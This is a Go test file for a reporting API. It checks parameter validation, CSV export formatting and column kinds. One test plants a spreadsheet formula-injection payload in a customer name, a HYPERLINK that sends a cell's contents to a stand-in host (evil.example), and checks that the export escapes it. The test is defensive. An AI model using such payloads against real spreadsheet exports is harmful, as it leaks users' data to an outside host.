package report_test

import (
	"fmt"
	"strings"
	"testing"

	"rapport/internal/report"
	"rapport/internal/testkit"
)

func TestReportRequests(t *testing.T) {
	app := testkit.NewApp(t)
	report.Register(app)
	o := testkit.NewOrg(t, app)
	c := testkit.NewClient(t, o)
	for _, tc := range []struct {
		as, url  string
		status   int
		field    string // the parameter a 400 names
		contains string
	}{
		{"", "/api/reports/spend", 401, "", ""},
		{"rita", "/api/reports/spending", 404, "", "no report called spending"},
		{"rita", "/api/reports/spend?from=2026-13-01", 400, "from", "YYYY-MM-DD"},
		{"rita", "/api/reports/spend?to=yesterday", 400, "to", "YYYY-MM-DD"},
		{"rita", "/api/reports/spend?from=2026-03-01&to=2026-02-01", 400, "to", "before from"},
		{"rita", "/api/reports/spend?groupBy=colour", 400, "groupBy", "customer, tier, rep, team, category, month"},
		{"rita", "/api/reports/spend?groupBy=tier,month,rep", 400, "groupBy", "at most 2"},
		{"rita", "/api/reports/visits?groupBy=tier,month", 400, "groupBy", ""},
		{"rita", "/api/reports/budgets?groupBy=rep", 400, "groupBy", "no grouping"},
		{"rita", "/api/reports/spend?format=xlsx", 400, "format", "json or csv"},
		{"rita", "/api/reports/spend?groupBy=tier,month&from=2026-01-01&to=2026-03-31", 200, "", `"groupBy":"tier,month","from":"2026-01-01","to":"2026-03-31","currency":"CNY"`},
		{"superuser", "/api/reports/audit", 200, "", `"report":"audit"`},
	} {
		res := c.Do(tc.as, "GET", tc.url, nil)
		if res.Status != tc.status || !strings.Contains(string(res.Body), tc.contains) {
			t.Errorf("%s GET %s: %d %s, want %d with %q", tc.as, tc.url, res.Status, res.Body, tc.status, tc.contains)
		}
		if tc.field != "" && res.Code(tc.field) != "invalid_value" {
			t.Errorf("%s GET %s: data.%s.code = %q, want invalid_value", tc.as, tc.url, tc.field, res.Code(tc.field))
		}
	}
}

// TestReportCSV: the CSV is the JSON's rows and totals, opened by Excel
// as UTF-8 (BOM), money in yuan, with a file name.
func TestReportCSV(t *testing.T) {
	w := newWorld(t)
	totals := w.run(t, "fay", "spend", "customer")["totals"].(map[string]any)
	res := w.client.Do("fay", "GET", "/api/reports/spend?format=csv&groupBy=customer&from="+w.from+"&to="+w.to, nil)
	body := string(res.Body)
	for _, want := range []string{"\uFEFFkey,label,budget,committed,approved,paid,remaining,utilisation\r\n",
		",Acme,", ",Bolt,", ",Crane,", "\r\ntotal,Total," + decimal(totals["budget"]) + "," + decimal(totals["committed"]) + ","} {
		if res.Status != 200 || !strings.Contains(body, want) {
			t.Errorf("CSV %d lacks %q:\n%s", res.Status, want, body)
		}
	}
	if !strings.HasPrefix(body, "\uFEFF") {
		t.Error("CSV has no byte order mark")
	}
	want := `attachment; filename="spend_` + w.from + "_" + w.to + `.csv"`
	if got := res.Header.Get("Content-Disposition"); got != want {
		t.Errorf("Content-Disposition %q, want %q", got, want)
	}
	if got := res.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", got)
	}

	// a name that a spreadsheet would run as a formula reaches it as text
	acme := w.Customers["rita"]
	acme.Set("name", `=HYPERLINK("http://evil.example/?x="&A1,"click")`)
	if err := testkit.Save(w.App, nil, acme); err != nil {
		t.Fatal(err)
	}
	roi := string(w.client.Do("fay", "GET", "/api/reports/roi?format=csv&groupBy=customer&from="+w.from+"&to="+w.to, nil).Body)
	if !strings.Contains(roi, `,"'=HYPERLINK(""http://evil.example`) {
		t.Errorf("a formula in a customer's name is exported live:\n%s", roi)
	}
}

// The JSON says which figures are money, counts or percentages, so that a
// client shows them right without guessing from their names.
func TestReportColumns(t *testing.T) {
	w := newWorld(t)
	got := map[string]string{}
	for _, c := range w.run(t, "fay", "roi", "customer")["columns"].([]any) {
		col := c.(map[string]any)
		got[col["name"].(string)] = col["kind"].(string)
	}
	for name, kind := range map[string]string{"annual_contract": "money", "care_spend": "money", "visits_done": "count", "satisfaction": "number", "complaints": "count"} {
		if got[name] != kind {
			t.Errorf("roi column %s: kind %q, want %q (columns %v)", name, got[name], kind, got)
		}
	}
}

// decimal writes a JSON money figure as the CSV does.
func decimal(v any) string {
	minor := int64(v.(float64))
	return fmt.Sprintf("%d.%02d", minor/100, minor%100)
}
